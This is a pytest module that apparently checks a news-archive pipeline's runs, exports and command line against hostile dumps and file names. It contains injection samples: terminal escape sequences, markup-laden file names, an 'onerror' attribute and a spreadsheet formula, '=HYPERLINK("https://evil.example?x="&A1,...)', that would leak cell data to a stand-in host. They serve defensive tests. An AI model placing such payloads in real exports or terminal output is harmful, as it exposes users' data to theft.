"""Dumps and file names written to do harm go through a run, its exports and the command line: nothing happens."""

import csv
import json
import os
import re
from pathlib import Path

import frictionless
import polars as pl
import pytest

from flows.cli.printing import MOST_REFUSALS
from flows.pipeline import Summary
from flows.reports.export import Form, export
from flows.reports.spreadsheets import FORMULA, NUMBER
from flows.terminal import ACTIVE
from flows.warehouse.places import Places, places
from flows.warehouse.query import query
from tests.hostile.page import FILE_NAMES, TITLES, write
from tests.hostile.pty_run import in_terminal

COLOUR = re.compile(r"\x1b\[[0-9;]*m")
BAR = re.compile(r"\r?\x1b\[(?:\?25[lh]|2K|1A)\r?")  # how a bar of progress draws itself anew
WAS_HERE = Path("/tmp/steppe-was-here")


def harmless(written: str) -> str:
    """What a terminal was told, without colours, bars and line ends; fails where anything else would act on it."""
    plain = BAR.sub("", COLOUR.sub("", written).replace("\r\n", "\n"))
    assert not ACTIVE.search(plain), repr(plain[max(0, ACTIVE.search(plain).start() - 60) :][:120])  # type: ignore[union-attr]
    return plain


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> tuple[Places, str]:
    """The warehouse of `steppe run` in a terminal, and what that showed."""
    folder = tmp_path_factory.mktemp("hostile")
    write(folder / "dumps")
    code, written = in_terminal("run", "--dumps", folder / "dumps", "--warehouse", folder / "w.duckdb")
    assert code == 0, written
    return places(folder / "w.duckdb"), written


def test_a_run_shows_all_and_does_nothing(ran: tuple[Places, str]) -> None:
    where, written = ran
    plain = harmless(written)
    assert plain.count("quarantined  ") == MOST_REFUSALS + 1
    assert "quarantined  2 more" in plain
    assert "\\x1b[2J" in plain
    assert not WAS_HERE.exists()
    assert query(where, "SELECT COUNT(*) FROM captures").item() == len(FILE_NAMES)
    assert query(where, "SELECT COUNT(*) FROM rates").item() == 3 * len(FILE_NAMES)


def test_titles_are_facts_letter_for_letter(ran: tuple[Places, str]) -> None:
    headlines = set(query(ran[0], "SELECT headline FROM articles")["headline"])
    kept = set(query(ran[0], "SELECT raw_text FROM quality.unparsed_lines")["raw_text"])
    assert {title for title in TITLES if title not in headlines} <= kept
    assert len(headlines & set(TITLES)) >= len(TITLES) - 3


def test_names_of_files_are_stored_and_found_again(ran: tuple[Places, str]) -> None:
    uris = query(ran[0], "SELECT uri FROM ops.capture_files")["uri"]
    assert uris.n_unique() == 2 * len(FILE_NAMES)
    folder = ran[0].published.parent / "dumps"
    code, written = in_terminal("run", "--dumps", folder, "--warehouse", ran[0].published)
    assert (code, "nothing new in 24 dumps" in harmless(written)) == (0, True), written


@pytest.mark.parametrize(
    "arguments",
    [
        ("status",),
        ("names", "list", "--limit", "50"),
        ("verify",),
        ("sql", "SELECT headline, body FROM article_versions"),
        ("sql", "SELECT headline, body FROM article_versions", "--format", "csv"),
        ("sql", "SELECT headline, body FROM article_versions", "--format", "json"),
        ("sql", "PIVOT (SELECT headline FROM articles) ON headline USING COUNT(*)"),
        ("sql", "PIVOT (SELECT headline FROM articles) ON headline USING COUNT(*)", "--format", "csv"),
        ("sql", "FROM ops.capture_files"),
        ("sql", "FROM quality.quarantine"),
        ("sql", "SELECT error((SELECT max(body) FROM article_versions))"),
        ("sql", "SELECT CAST(headline AS INT) FROM articles"),
    ],
    ids=lambda one: " ".join(one)[:40],
)
def test_the_command_line_shows_and_does_nothing(ran: tuple[Places, str], arguments: tuple[str, ...]) -> None:
    code, written = in_terminal(*arguments, "--warehouse", ran[0].published)
    assert code in (0, 2), written
    assert "Traceback" not in harmless(written)
    assert code == 0 or written.count("\n") == 1


def test_explain_shows_hostile_pages_and_refusals(ran: tuple[Places, str]) -> None:
    files = sorted((ran[0].published.parent / "dumps").iterdir(), key=os.fsencode)
    for file in files[:2]:
        for more in ((), ("--mentions",)):
            code, written = in_terminal("explain", file, *more)
            assert code == 0, written
            assert "onerror" in harmless(written)
    for file in [one for one in files if one.name.startswith("refused-")][:2]:
        code, written = in_terminal("explain", file)
        assert (code, harmless(written).count("\n")) == (2, 1), written


@pytest.mark.parametrize("name", ["\x1b[2Jmissing\n\u202e.txt", "[/red]missing.txt", "\udcff.txt", "[link=x]*.txt"])
def test_errors_about_hostile_names_are_one_harmless_line(tmp_path: Path, name: str) -> None:
    code, written = in_terminal("explain", tmp_path / name)
    assert (code, harmless(written).count("\n")) == (2, 1), written
    assert "no such file or folder" in written


def test_tracebacks_are_harmless_too(tmp_path: Path) -> None:
    code, written = in_terminal("--debug", "explain", tmp_path / "\x1b[2J.txt")
    assert code == 2
    assert "Traceback" in harmless(written)


def test_no_cell_of_an_export_is_a_formula(ran: tuple[Places, str], tmp_path: Path) -> None:
    files = export(ran[0], tmp_path / "out", Form.csv, with_bodies=True)
    cells = set()
    for file in files:
        assert file.parent == tmp_path / "out"
        if file.suffix == ".csv":
            with file.open(encoding="utf-8", newline="") as stream:
                cells |= {cell for row in csv.reader(stream) for cell in row}
    texts = pl.Series(sorted(cells))
    assert '\'=HYPERLINK("https://evil.example?x="&A1,"read on")' in cells
    formulas = texts.filter(texts.str.contains(FORMULA) & ~texts.str.contains(NUMBER) & ~texts.str.starts_with("'"))
    assert formulas.to_list() == []
    report = frictionless.validate(str(tmp_path / "out" / "datapackage.json"))
    assert report.valid, report.flatten(["title", "message"])


def test_a_run_log_in_markdown_has_no_markup_of_theirs() -> None:
    refusals = [f"nul_bytes: /tmp/{os.fsdecode(name)}: 1 NUL byte" for name in FILE_NAMES]
    text = Summary(refusals=refusals).markdown()
    assert text.count("\n- ") == len(refusals)
    assert not re.search(r"<\w|(?<!\\)[\[\]`*]", text)
    assert not ACTIVE.search(text)


def test_json_and_csv_in_a_pipe_are_exact(ran: tuple[Places, str]) -> None:
    import subprocess
    import sys

    question = "SELECT headline FROM articles ORDER BY headline"
    command = [sys.executable, "-m", "flows.cli", "sql", question, "--warehouse", str(ran[0].published), "--format"]
    exact = query(ran[0], question)["headline"].to_list()
    shown = subprocess.run([*command, "json"], capture_output=True, check=True, cwd=Path(__file__).parents[2]).stdout
    assert [row["headline"] for row in json.loads(shown)] == exact
    shown = subprocess.run([*command, "csv"], capture_output=True, check=True, cwd=Path(__file__).parents[2]).stdout
    rows = list(csv.reader(shown.decode("utf-8").splitlines(keepends=True)))
    assert [row[0].removeprefix("'") for row in rows[1:]] == [one.removeprefix("'") for one in exact]
